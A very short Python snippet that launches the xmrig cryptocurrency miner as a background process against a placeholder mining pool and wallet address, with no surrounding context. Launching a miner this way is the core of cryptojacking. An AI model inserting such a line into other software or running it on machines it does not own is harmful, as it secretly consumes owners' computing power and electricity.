import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.invalid:3333", "-u", "4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "--donate-level=1"])
